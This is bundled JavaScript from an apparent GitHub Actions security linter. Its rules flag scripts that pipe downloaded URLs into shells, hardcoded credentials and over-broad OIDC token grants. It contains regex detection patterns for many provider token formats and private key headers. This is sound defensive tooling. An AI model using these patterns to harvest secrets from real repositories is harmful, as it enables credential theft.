    const uses = (0,model_source/* scalarText */.ws)(step.uses);
    const ref = uses ? (0,dist_uses/* parseUses */.Ap)(uses) : undefined;
    if (!ref || ref.kind !== "remote")
        return [];
    const sink = CODE_SINKS.get((0,dist_uses/* actionName */.aM)(ref));
    if (!sink || (sink.language !== "shell" && sink.language !== "powershell"))
        return [];
    return [...step.with].filter(([key]) => sink.inputs.includes(key.toLowerCase())).map(([, node]) => node);
}
function describe(found) {
    switch (found.kind) {
        case "pipe":
            return `pipes ${found.url} straight into ${found.runner}, so whoever controls that URL runs code in this job`;
        case "execute":
        case "install-binary":
            return `downloads ${found.url} and ${found.runner} with no checksum or signature check in the script`;
        case "package-url":
            return `runs ${found.runner} from ${found.url}, which is not pinned to a hash or commit`;
    }
}
function shipsNote(job, shipping) {
    const reason = job ? shipping.get(job.id) : undefined;
    return reason ? ` (this job ${reason})` : "";
}
function unverified_download_fixFor(found) {
    if (found.kind === "package-url")
        return "pin it (a #sha256= fragment, a commit SHA, or a registry version installed with --require-hashes)";
    return 'download to a file, check it against a pinned sha256 (echo "<sha256>  file" | sha256sum -c) or its signature (cosign verify-blob, gh attestation verify), then run it';
}
//# sourceMappingURL=unverified-download.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/credentials/token-patterns.js
/**
 * Provider token formats with fixed prefixes and lengths; matches of these are credentials
 * whatever name they are stored under.
 */
const TOKEN_PATTERNS = [
    { what: "AWS access key id", re: /\b(?:AKIA|ASIA|ABIA|ACCA)[0-9A-Z]{16}\b/g, severity: "critical" },
    { what: "GitHub token", re: /\bgh[pousr]_[A-Za-z0-9]{36,255}\b/g, severity: "critical" },
    { what: "GitHub fine-grained token", re: /\bgithub_pat_[A-Za-z0-9_]{82}\b/g, severity: "critical" },
    { what: "Slack token", re: /\bxox[abposr]-[A-Za-z0-9-]{10,}/g, severity: "high" },
    { what: "Slack webhook URL", re: /https:\/\/hooks\.slack\.com\/services\/T[A-Z0-9]+\/B[A-Z0-9]+\/[A-Za-z0-9]{16,}/g, severity: "high" },
    { what: "Stripe live key", re: /\b[sr]k_live_[0-9A-Za-z]{20,}\b/g, severity: "critical" },
    { what: "npm token", re: /\bnpm_[A-Za-z0-9]{36}\b/g, severity: "critical" },
    { what: "PyPI token", re: /\bpypi-AgEIcHlwaS5vcmc[A-Za-z0-9_-]{50,}/g, severity: "critical" },
    { what: "GitLab token", re: /\bglpat-[A-Za-z0-9_-]{20,}\b/g, severity: "critical" },
    { what: "Docker Hub token", re: /\bdckr_pat_[A-Za-z0-9_-]{27,}\b/g, severity: "high" },
    { what: "SendGrid key", re: /\bSG\.[A-Za-z0-9_-]{22}\.[A-Za-z0-9_-]{43}\b/g, severity: "high" },
    { what: "Google API key", re: /\bAIza[0-9A-Za-z_-]{35}\b/g, severity: "medium" },
];
/** The header of a PEM private key. */
const PRIVATE_KEY_HEADER = /-----BEGIN (?:RSA |EC |DSA |OPENSSH |ENCRYPTED |PGP )?PRIVATE KEY(?: BLOCK)?-----/;
/** Shows only the first four characters of a credential. Never put a credential in a message whole. */
function mask(value) {
    return `${value.slice(0, 4)}…`;
}
/** Shannon entropy in bits per character. */
function entropy(value) {
    const counts = new Map();
    for (const ch of value)
        counts.set(ch, (counts.get(ch) ?? 0) + 1);
    let h = 0;
    for (const n of counts.values()) {
        const p = n / value.length;
        h -= p * Math.log2(p);
    }
    return h;
}
/** Documentation examples, redactions and fill-in-the-blank values. */
const PLACEHOLDER = /example|sample|dummy|placeholder|fake|redacted|changeme|change-me|not[-_]?a[-_]?real|your[-_]|xxxx|\*\*\*|<[^>]*>|^\.\.\.$|^(?:none|null|nil|todo|tbd|test|testing|secret|password|token)$/i;
function isPlaceholder(value) {
    return PLACEHOLDER.test(value) || new Set(value).size <= 3;
}
/**
 * A literal that reads like a random credential rather than a word, path, URL, id or version:
 * 16+ characters without spaces, letters and digits mixed, high entropy.
 */
function looksRandom(value, minLength = 16) {
    const v = value.trim();
    if (v.length < minLength || /\s/.test(v) || isPlaceholder(v))
        return false;
    if (/^(?:\.{0,2}\/|~\/|[a-z][a-z0-9+.-]*:\/\/|arn:|projects\/)/i.test(v))
        return false; // paths, URLs, ARNs, resource names
    if ((v.match(/\//g) ?? []).length >= 2 || /[@:,*[\](){}]/.test(v) || v.startsWith("-") || /=[^=]/.test(v) || /^v?\d+(?:\.\d+)+/.test(v))
        return false;
    if (!/[0-9]/.test(v) || !/[A-Za-z]/.test(v))
        return false;
    if (/^[a-z0-9]+(?:[-_.][a-z0-9]+)+$/.test(v) && !/[0-9]{4,}[a-z]|[a-z][0-9][a-z][0-9]/.test(v))
        return false; // kebab-case identifiers
    return entropy(v) >= 3.5;
}
//# sourceMappingURL=token-patterns.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/rules/hardcoded-credentials.js





/** Names under which a value is a credential: `*_TOKEN`, `password`, `api-key`, `CLIENT_SECRET`... */
const CREDENTIAL_NAME = /(?:^|[_-])(?:password|passwd|pass|secret|token|api[_-]?key|access[_-]?key|secret[_-]?key|private[_-]?key|client[_-]?secret|auth[_-]?token|credentials?|key)$/i;
/** Names that end like a credential but hold something public or structural. */
const NOT_CREDENTIAL_NAME = /(?:public|cache|ssh[_-]?known|primary|partition|sort|idempotency|hash)[_-]?key$|^key$|(?:^|[_-])id[_-]?token$|token[_-]?(?:format|type)$/i;
/** Actions whose password input logs in to a registry: any literal there is a real password. */
const LOGIN_ACTIONS = new Set(["docker/login-action", "azure/docker-login", "redhat-actions/podman-login"]);
/**
 * Credentials written into the workflow file itself: visible to everyone who can read the
 * repository, kept forever in its history, and never masked in logs.
 */
const hardcodedCredentials = {
    id: "hardcoded-credentials",
    title: "Credential written in the workflow",
    severity: "high",
    confidence: "high",
    check(ctx) {
        const reported = new Set();
        knownFormats(ctx, reported);
        privateKeys(ctx, reported);
        namedValues(ctx, reported);
    },
};
/** Provider token formats anywhere in the file, comments and scripts included. */
function knownFormats(ctx, reported) {
    const source = ctx.target.source;
    if (!TOKEN_PREFILTER.test(source.text))
        return;
    const lines = source.text.split("\n");
    lines.forEach((text, i) => {
        for (const pattern of TOKEN_PATTERNS) {
            pattern.re.lastIndex = 0;
            for (const m of text.matchAll(pattern.re)) {
                const token = m[0];
                if (isPlaceholder(token) || entropy(token) < 3)
                    continue;
                if (expressionAround(text, m.index ?? 0))
                    continue;
                if (reported.has(i + 1))
                    return;
                reported.add(i + 1);
                ctx.report({
                    at: { line: i + 1, column: (m.index ?? 0) + 1 },
                    severity: pattern.severity,
                    message: `line ${i + 1} contains a literal ${pattern.what} (${mask(token)}); revoke it now (it is in the repository's history), then store the replacement as an encrypted secret and read it with \${{ secrets.NAME }}`,
                });
            }
        }
    });
}
/** Cheap test on the whole file for any token format's fixed part, before the per-line scan. */
const TOKEN_PREFILTER = /A[KS]IA|AB?IA|ACCA|gh[pousr]_|github_pat_|xox[abposr]-|hooks\.slack\.com|k_live_|npm_|pypi-|glpat-|dckr_pat_|SG\.|AIza/;
/** A match inside `${{ ... }}` is an expression's text, not a value. */
function expressionAround(line, at) {
    const open = line.lastIndexOf("${{", at);
    return open >= 0 && line.indexOf("}}", open) > at;
}
/** A PEM private key header followed by key material. */
function privateKeys(ctx, reported) {
    if (!ctx.target.source.text.includes("PRIVATE KEY"))
        return;
    const lines = ctx.target.source.text.split("\n");
    lines.forEach((text, i) => {
        const m = PRIVATE_KEY_HEADER.exec(text);
        if (!m || reported.has(i + 1))
            return;
        const next = lines.slice(i + 1, i + 4).map((l) => l.trim()).find((l) => l !== "");
        const inline = text.slice((m.index ?? 0) + m[0].length).trim();
        const body = /^[A-Za-z0-9+/=]{40,}/.test(inline) ? inline : next ?? "";
        if (!/^[A-Za-z0-9+/=]{40,}$/.test(body.split(/\s/)[0] ?? ""))
            return;
        reported.add(i + 1);
        ctx.report({
            at: { line: i + 1, column: (m.index ?? 0) + 1 },
            severity: "critical",
            message: `line ${i + 1} starts a literal private key (${mask(m[0])}); revoke the key pair now (it is in the repository's history), then store the replacement as an encrypted secret, or better, sign keylessly with the job's OIDC identity`,
        });
    });
}
/** Literal values under credential names: env, `with:` inputs, container credentials, reusable-workflow secrets. */
function namedValues(ctx, reported) {
    const { target } = ctx;
    const source = target.source;
    const check = (node, at, name, where, strict, job, step) => {
        const value = (0,dist.isScalar)(node) ? (0,model_source/* scalarText */.ws)(node) : undefined;
        if (value === undefined || reported.has(at.line))
            return;
        const text = value.trim();
        if (text === "" || text.includes("${{") || /^\$\{?\w+\}?$/.test(text) || /^(?:true|false|yes|no|on|off|\d+)$/i.test(text))
            return;
        if (strict ? isPlaceholder(text) : !looksRandom(text))
            return;
        reported.add(at.line);
        ctx.report({
            at,
            job: job?.id,
            step,
            confidence: strict ? "high" : "medium",
            message: `${name} in ${where} is a literal credential (${mask(text)}); revoke it if it was ever real, store it as an encrypted secret and pass \${{ secrets.NAME }} instead`,
        });
    };
    const envBlock = (node, where, job, step) => {
        for (const [name, pair] of (0,model_source/* entries */.jO)(node)) {
            if (CREDENTIAL_NAME.test(name) && !NOT_CREDENTIAL_NAME.test(name))
                check(pair.value, source.positionOf(pair.value), name, where, false, job, step);
        }
    };
    if (target.kind === "workflow")
        envBlock((0,model_source/* valueOf */.RP)(source.root, "env"), "the workflow-level env");
    for (const { step, job } of (0,walk/* allSteps */.Bd)(target)) {
        const where = `step ${step.name ?? step.index + 1}${job ? ` of job ${job.id}` : ""}`;
        envBlock(step.envNode, `the env of ${where}`, job, step.index);
        withInputs(source, step, where, check, job);
    }
    if (target.kind !== "workflow")
        return;
    for (const job of target.jobs) {
        envBlock((0,model_source/* valueOf */.RP)(job.node, "env"), `the env of job ${job.id}`, job);
        const container = (0,model_source/* valueOf */.RP)(job.node, "container");
        registryPassword(source, container, `the container of job ${job.id}`, check, job);
        envBlock((0,model_source/* valueOf */.RP)(container, "env"), `the container env of job ${job.id}`, job);
        for (const [name, pair] of (0,model_source/* entries */.jO)(job.services)) {
            // A service container's own env (POSTGRES_PASSWORD: postgres) configures a throwaway
            // database on the runner: not a credential to anything. Its registry login is.
            registryPassword(source, pair.value, `service ${name} of job ${job.id}`, check, job);
        }
        if (job.uses) {
            for (const [name, pair] of (0,model_source/* entries */.jO)(job.secrets))
                check(pair.value, source.positionOf(pair.value), name, `the secrets passed by job ${job.id}`, true, job);
        }
    }
}
function withInputs(source, step, where, check, job) {
    const action = stepAction(step);
    const login = action !== undefined && LOGIN_ACTIONS.has(action);
    for (const [name, value] of step.with) {
        if (!CREDENTIAL_NAME.test(name) || NOT_CREDENTIAL_NAME.test(name))
            continue;
        const strict = login && /password|token/i.test(name);
        check(value, source.positionOf(value), `input ${name}`, where, strict, job, step.index);
    }
}
/** `credentials: { username, password }` of a job container or service with a literal password. */
function registryPassword(source, node, where, check, job) {
    const password = (0,model_source/* valueOf */.RP)((0,model_source/* valueOf */.RP)(node, "credentials"), "password");
    if (password)
        check(password, source.positionOf(password), "credentials.password", where, true, job);
}
//# sourceMappingURL=hardcoded-credentials.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/rules/oidc-untrusted.js






/**
 * `id-token: write` lets a job mint an OIDC token that clouds and registries exchange for real
 * credentials. Granting it where untrusted code or untrusted people drive the job, or to jobs
 * that never use it, hands out that identity for nothing.
 */
const oidcUntrusted = {
    id: "oidc-untrusted",
    title: "OIDC token available to untrusted code or unneeded jobs",
    severity: "high",
    confidence: "medium",
    targets: ["workflow"],
    check(ctx) {
        const { target } = ctx;
        if (target.kind !== "workflow")
            return;
        untrustedTriggers(ctx, target);
        workflowWide(ctx, target);
        unboundCloudRoles(ctx, target);
    },
};
/** Where the job's `id-token: write` comes from, or undefined when it has none. */
function idTokenGrant(workflow, job) {
    const own = job.permissions;
    const perms = own ?? workflow.permissions;
    if (idTokenLevel(perms) !== "write" || !perms)
        return undefined;
    const at = perms.kind === "map" ? (perms.scopes.get("id-token")?.pos ?? perms.pos) : perms.pos;
    return { at, inherited: own === undefined };
}
/** id-token in a workflow anyone can start (pull_request_target, issue_comment, workflow_run...). */
function untrustedTriggers(ctx, workflow) {
    const privileged = [...(0,walk/* eventNames */.Z2)(workflow)].filter((e) => OUTSIDER_TRIGGERS.has(e));
    if (privileged.length === 0)
        return;
    for (const job of workflow.jobs) {
        const grant = idTokenGrant(workflow, job);
        if (!grant)
            continue;
        const events = privileged.filter((e) => mayRunOn(job, e));
        if (events.length === 0)
            continue;
        const runsPrCode = pullRequestCheckoutIndex(job) >= 0;
        const on = events.join("/");
        ctx.report({
            at: grant.at,
            job: job.id,
            severity: runsPrCode ? "critical" : "high",
            confidence: runsPrCode ? "high" : "medium",
            message: runsPrCode
                ? `job ${job.id} can mint OIDC tokens for this repository (id-token: write${grant.inherited ? ", from the workflow" : ""}) while it runs pull-request code under ${on}, so that code can obtain whatever cloud or registry access the token is trusted for; drop id-token: write here and do the authenticated work in a job that runs only trusted code`
                : `job ${job.id} can mint OIDC tokens for this repository (id-token: write${grant.inherited ? ", from the workflow" : ""}) under ${on}, which people outside the project can trigger, and the token names the default branch; move the authenticated work to a workflow on push, release or workflow_dispatch and drop id-token: write here`,
        });
    }
}
/** Signs the job gives of using its OIDC token. `maybe`: it runs tools that might, out of sight. */
function oidcUse(workflow, job) {
    if (job.uses)
        return "maybe"; // a reusable workflow may need it
    let maybe = false;
    for (const step of job.steps) {
        const action = stepAction(step) ?? "";
        if (cloudAuthOf(workflow.source, step)?.mode === "oidc")
            return "yes";
        if (/^(?:actions\/attest|sigstore\/|slsa-framework\/|rust-lang\/crates-io-auth-action|hashicorp\/vault-action|aws-actions\/|google-github-actions\/|azure\/|docker\/github-builder)/.test(action))
            return "yes";
        if (action === "pypa/gh-action-pypi-publish" && input(step, "password") === undefined)
            return "yes";
        if (action === "codecov/codecov-action" && input(step, "use_oidc") === "true")
            return "yes";
        if (/goreleaser|ko-build|changesets|semantic-release/.test(action))
            maybe = true;
        const run = (0,model_source/* scalarText */.ws)(step.run) ?? "";
        if (/\bcosign\s+(?:sign|attest)|\bgitsign\b|ACTIONS_ID_TOKEN_REQUEST|--provenance|NPM_CONFIG_PROVENANCE|\b(?:npm|pnpm|yarn)\b[^\n]*\bpublish\b|\bgh\s+attestation\b/.test(run))
            return "yes";
        if (/\b(?:make|goreleaser|ko|just|task|npx|\.\/[\w./-]+\.sh)\b/.test(run))
            maybe = true;
        const env = [...step.env.keys(), ...job.env.keys()].join(" ");
        if (/COSIGN|SIGSTORE|OIDC/.test(env))
            maybe = true;
    }
    return maybe ? "maybe" : "no";
}
/** Workflow-level id-token inherited by jobs that show no use of it. */
function workflowWide(ctx, workflow) {
    const perms = workflow.permissions;
    if (idTokenLevel(perms) !== "write" || !perms)
        return;
    const inheriting = workflow.jobs.filter((j) => !j.permissions);
    if (inheriting.length < 2)
        return;
    const uses = inheriting.map((job) => ({ job, use: oidcUse(workflow, job) }));
    const idle = uses.filter((u) => u.use === "no").map((u) => u.job.id);
    if (idle.length === 0)
        return;
    const users = uses.filter((u) => u.use !== "no").map((u) => u.job.id);
    const at = perms.kind === "map" ? (perms.scopes.get("id-token")?.pos ?? perms.pos) : perms.pos;
    ctx.report({
        at,
        severity: "medium",
        confidence: "medium",
        message: `workflow-level id-token: write reaches all ${inheriting.length} jobs, but ${list(idle)} ${idle.length === 1 ? "shows" : "show"} no use of OIDC; ${users.length > 0 ? `grant it in the permissions: of ${list(users)} only` : "grant it only in the job that signs or authenticates"}`,
    });
}
function list(ids) {
    return ids.length === 1 ? `job ${ids[0]}` : `jobs ${ids.join(", ")}`;
}
/**
 * Cloud login by OIDC in a job that runs on refs anyone with write access controls (pull
 * requests, pushes to any branch) and has no environment: the role's trust policy cannot tell a
 * reviewed deploy from a branch experiment.
 */
function unboundCloudRoles(ctx, workflow) {
    const open = workflow.triggers.filter(unprotectedRef);
    if (open.length === 0)
        return;
    for (const job of workflow.jobs) {
        if (job.environment !== undefined)
            continue;
        const events = open.map((t) => t.event).filter((e) => mayRunOn(job, e));
        if (events.length === 0)
            continue;
        for (const step of job.steps) {
            const auth = cloudAuthOf(workflow.source, step);
            if (auth?.mode !== "oidc")
                continue;
            ctx.report({
                at: ctx.target.source.positionOf(step.uses),
                job: job.id,
                step: step.index,
                severity: "medium",
                confidence: "medium",
                message: `job ${job.id} logs in to ${auth.provider} with OIDC on ${events.map(oidc_untrusted_describe).join(" and ")} without an environment, so the cloud's trust policy must accept refs anyone with write access can create; run the login in a job with environment: (protected by reviewers or branch rules) and restrict the trust policy's sub to that environment`,
            });
        }
    }
}
function oidc_untrusted_describe(event) {
    return event === "push" ? "pushes to any branch" : event === "pull_request" ? "pull requests" : event;
}
/**
 * Triggers whose ref is not a protected branch or tag: `pull_request`, and `push` without a
 * `branches:`/`tags:` filter (or with a match-everything one).
 */
function unprotectedRef(trigger) {
    if (trigger.event === "pull_request")
        return true;
    if (trigger.event !== "push")
        return false;
    const branches = (0,model_source/* listOf */.c3)((0,model_source/* valueOf */.RP)(trigger.config, "branches")).map(model_source/* scalarText */.ws);
    if (branches.some((b) => b === "*" || b === "**"))
        return true;
    return branches.length === 0 && (0,model_source/* valueOf */.RP)(trigger.config, "tags") === undefined;
}
//# sourceMappingURL=oidc-untrusted.js.map
// EXTERNAL MODULE: ./packages/workflow/dist/policy/glob.js
var glob = __webpack_require__(78889);
;// CONCATENATED MODULE: ./packages/workflow/dist/rules/policy-violation.js





/** Every scope `write-all` / `read-all` grants. */
const ALL_SCOPES = [
    "actions", "attestations", "checks", "contents", "deployments", "discussions", "id-token", "issues", "models",
    "packages", "pages", "pull-requests", "repository-projects", "security-events", "statuses",
];
const LEVEL = { none: 0, read: 1, write: 2 };
/** Triggers whose `branches:` filter names the branches the workflow runs on. */
const BRANCH_EVENTS = new Set(["push", "pull_request", "pull_request_target"]);
/**
 * Checks each job against the job classes of the policy (`classes:` in .github/peptide.yml):
 * which secrets it may read, whether it may deploy or write artifacts, whether it needs an
 * environment, and the most token permissions it may hold.
 */
const policyViolation = {
    id: "policy-violation",
    title: "Job breaks its class in the Peptide policy",
    severity: "high",
    confidence: "high",
    targets: ["workflow"],
    check(ctx) {
        const { target, config } = ctx;
        if (target.kind !== "workflow" || config.classes.length === 0)
            return;
        const policy = config.file ?? "the policy";
        for (const job of target.jobs) {
            for (const cls of config.classes) {
                if (!matches(target, job, cls))
                    continue;
                const v = (at, what, fix, confidence) => ctx.report({ at, job: job.id, confidence, message: `job ${job.id} ${what}, which class ${cls.name} of ${policy} does not allow; ${fix}` });
                checkSecrets(target, job, cls, v);
                policy_violation_checkShipping(target, job, cls, v);
                checkEnvironment(target, job, cls, v);
                checkPermissions(target, job, cls, v);
            }
        }
    },
};
/** A job belongs to a class when every criterion the class gives matches (any of its values). */
function matches(workflow, job, cls) {
    const { events, branches, environments, jobs, files } = cls.match;
    if (events && !workflow.triggers.some((t) => events.includes(t.event) && mayRunOn(job, t.event)))
        return false;
    if (branches && !runsOnBranches(workflow, job, branches))
        return false;
    if (environments && !(job.environmentName !== undefined && environments.some((e) => (0,glob/* globToRegExp */.t)(e).test(job.environmentName))))
        return false;
    if (jobs && !jobs.some((j) => (0,glob/* globToRegExp */.t)(j).test(job.id)))
        return false;
    if (files && !(0,glob/* matchesAny */._)(workflow.source.path, files))
        return false;
    return true;
}
/**
 * Whether a push or pull-request trigger of the workflow can run on one of the branches. A
 * trigger without a branch filter runs on every branch; one with only `tags:` on none.
 */
function runsOnBranches(workflow, job, wanted) {
    for (const trigger of workflow.triggers) {
        if (!BRANCH_EVENTS.has(trigger.event) || !mayRunOn(job, trigger.event))
            continue;
        const config = trigger.config;
        const filter = (0,model_source/* listOf */.c3)((0,model_source/* valueOf */.RP)(config, "branches")).map(model_source/* scalarText */.ws).filter((b) => b !== undefined);
        const ignore = (0,model_source/* listOf */.c3)((0,model_source/* valueOf */.RP)(config, "branches-ignore")).map(model_source/* scalarText */.ws).filter((b) => b !== undefined);
        if (filter.length === 0) {
            if (trigger.event === "push" && (0,model_source/* valueOf */.RP)(config, "tags") !== undefined && ignore.length === 0)
                continue;
            if (wanted.some((w) => !ignore.some((i) => (0,glob/* globToRegExp */.t)(i).test(w))))
                return true;
            continue;
        }
        const positive = filter.filter((f) => !f.startsWith("!"));
        if (positive.some((f) => wanted.some((w) => (0,glob/* globToRegExp */.t)(f).test(w) || (0,glob/* globToRegExp */.t)(w).test(f))))
            return true;
    }
    return false;
}
function checkSecrets(workflow, job, cls, v) {
    if (cls.secrets !== "none" && cls.secrets !== "minimal")
        return;
    const source = workflow.source;
    if ((0,model_source/* scalarText */.ws)(job.secrets) === "inherit" && job.uses)
        v(source.positionOf(job.secrets), "passes every secret to a reusable workflow with `secrets: inherit`", "pass only the secrets it needs by name");
    const refs = jobSecretRefs(workflow, job).filter((r) => !isGithubToken(r));
    if (cls.secrets === "minimal") {
        for (const ref of refs)
            if (ref.kind !== "named")
                v(ref.pos, `reads the whole secrets context (${ref.expression})`, "read each secret it needs by name");
        return;
    }
    const seen = new Set();
    for (const ref of refs) {
        const name = ref.kind === "named" ? `secrets.${ref.name}` : ref.expression;
        if (seen.has(name))
            continue;
        seen.add(name);
        v(ref.pos, `reads ${name}`, "move the step that needs it to a job of a class that may hold secrets");
    }
}
function policy_violation_checkShipping(workflow, job, cls, v) {
    const source = workflow.source;
    if (cls.deploy === false) {
        for (const d of deploySteps(source, job.steps, job))
            v(d.at, `ships with ${d.what} (${d.kind})`, "move it to a deploy job of a class that may deploy", d.conditional ? "medium" : "high");
    }
    if (cls.artifactWrite === false) {
        for (const w of artifactWrites(source, job.steps, job))
            v(w.at, `writes something that outlives the job with ${w.what}`, "move it to a job of a class that may write artifacts");
    }
}
function checkEnvironment(workflow, job, cls, v) {
    const source = workflow.source;
    if (cls.environment === "required" && job.environment === undefined && !job.uses)
        v(source.positionOf(job.keyNode), "runs without an environment:", "add `environment: <name>` and protect that environment");
    if (cls.environment === "forbidden" && job.environment !== undefined)
        v(source.positionOf(job.environment), `runs in environment ${job.environmentName ?? (0,model_source/* scalarText */.ws)(job.environment) ?? "(expression)"}`, "remove the environment: so its secrets stay out of this job");
}
function checkPermissions(workflow, job, cls, v) {
    const allowed = cls.permissions;
    if (!allowed)
        return;
    const perms = job.permissions ?? workflow.permissions;
    const source = workflow.source;
    const limit = (scope) => allowed[scope] ?? "none";
    if (!perms) {
        v(source.positionOf(job.keyNode), "has no permissions: block (here or at the top of the workflow), so its token gets the repository's default permissions, possibly write-all", `set permissions: within ${describeLimits(allowed)}`);
        return;
    }
    const from = job.permissions ? "" : " (from the workflow's permissions:)";
    if (perms.kind === "all") {
        const over = ALL_SCOPES.filter((s) => !(perms.level === "read" && s === "id-token") && LEVEL[perms.level] > LEVEL[limit(s)]);
        if (over.length > 0)
            v(perms.pos, `holds ${perms.level}-all${from}`, `list the scopes it needs within ${describeLimits(allowed)}`);
        return;
    }
    for (const [scope, grant] of perms.scopes) {
        if (scope === "metadata")
            continue;
        if (LEVEL[grant.level] > LEVEL[limit(scope)])
            v(grant.pos, `holds ${scope}: ${grant.level}${from}`, `the class allows at most ${scope}: ${limit(scope)}`);
    }
}
function describeLimits(allowed) {
    const scopes = Object.entries(allowed).filter(([, level]) => level !== "none");
    return scopes.length === 0 ? "permissions: {}" : scopes.map(([scope, level]) => `${scope}: ${level}`).join(", ");
}
//# sourceMappingURL=policy-violation.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/registry.js




















/** Every rule. A rule's id is its file name in rules/ and its page in docs/rules/. */
const RULES = [
    missingPermissions, excessivePermissions, unpinnedUses, unpinnedImage, templateInjection, dangerousTrigger, envInjection, secretsInherit, secretsExposure, credentialPersistence, cachePoisoning, selfHostedPr, longLivedCredentials, unprotectedDeploy, spoofableBotCheck, insecureCommands, unverifiedDownload, hardcodedCredentials, oidcUntrusted, policyViolation,
];
function ruleById(id) {
    return RULES.find((r) => r.id === id);
}
//# sourceMappingURL=registry.js.map

/***/ }),

/***/ 72786:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   AU: () => (/* binding */ isShaRef),
/* harmony export */   Ap: () => (/* binding */ parseUses),
/* harmony export */   H_: () => (/* binding */ isDigestPinned),
/* harmony export */   Jd: () => (/* binding */ FIRST_PARTY_OWNERS),
/* harmony export */   aM: () => (/* binding */ actionName)
/* harmony export */ });
/* harmony import */ var _memo_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(92836);

const SHA = /^[0-9a-f]{40}$/;
/** Parses a `uses:` value. Results are cached by text and shared: do not modify one. */
function parseUses(raw) {
    return parsed(raw);
}
const parsed = (0,_memo_js__WEBPACK_IMPORTED_MODULE_0__/* .memoizeText */ .E)(parse);
function parse(raw) {
    const text = raw.trim();
    if (text.startsWith("./") || text.startsWith("../"))
        return { kind: "local", path: text, raw };
    if (text.startsWith("docker://"))
        return { kind: "docker", image: text.slice("docker://".length), raw };
    const at = text.lastIndexOf("@");
    const name = at < 0 ? text : text.slice(0, at);
    const ref = at < 0 ? undefined : text.slice(at + 1);
    const [owner = "", repo = "", ...rest] = name.split("/");
    const subpath = rest.length > 0 ? rest.join("/") : undefined;
    return { kind: "remote", owner, repo, path: subpath, ref, raw, reusable: /\.ya?ml$/.test(subpath ?? "") };
}
/** `owner/repo` or `owner/repo/path` without the ref, lower-cased: the key of the knowledge base. */
function actionName(ref) {
    let name = names.get(ref);
    if (name === undefined) {
        name = [ref.owner, ref.repo, ref.path].filter(Boolean).join("/").toLowerCase();
        names.set(ref, name);
    }
    return name;
}
const names = new WeakMap();
function isShaRef(ref) {
    return ref !== undefined && SHA.test(ref);
}
/** Owners whose actions are maintained by GitHub itself. */
const FIRST_PARTY_OWNERS = new Set(["actions", "github"]);
/** Docker image reference pinned by digest. */
function isDigestPinned(image) {
    return /@sha256:[0-9a-f]{64}$/.test(image.trim());
}
//# sourceMappingURL=uses.js.map

/***/ }),

/***/ 78443:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   $d: () => (/* binding */ UNTRUSTED_CODE_TRIGGERS),
/* harmony export */   Bd: () => (/* binding */ allSteps),
/* harmony export */   Z2: () => (/* binding */ eventNames),
/* harmony export */   wV: () => (/* binding */ PRIVILEGED_TRIGGERS)
/* harmony export */ });
/* harmony import */ var _memo_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(92836);

/**
 * Every step of a workflow's jobs or of a composite action, with its job when there is one.
 * Listed once per file and shared by the rules: do not modify the result.
 */
function allSteps(target) {
    return stepsOf(target);
}
const stepsOf = (0,_memo_js__WEBPACK_IMPORTED_MODULE_0__/* .memoize */ .B)((target) => {
    if (target.kind === "action")
        return target.steps.map((step) => ({ step }));
    const out = [];
    for (const job of target.jobs)
        for (const step of job.steps)
            out.push({ step, job });
    return out;
});
function eventNames(workflow) {
    return new Set(workflow.triggers.map((t) => t.event));
}
/** Triggers that run with the base repository's secrets and a write token on untrusted input. */
const PRIVILEGED_TRIGGERS = new Set(["pull_request_target", "workflow_run", "issue_comment", "pull_request_review", "pull_request_review_comment", "discussion", "discussion_comment", "issues"]);
/** Triggers through which code from a fork can run. */
const UNTRUSTED_CODE_TRIGGERS = new Set(["pull_request", "pull_request_target", "workflow_run", "issue_comment", "merge_group"]);
//# sourceMappingURL=walk.js.map

/***/ })

};
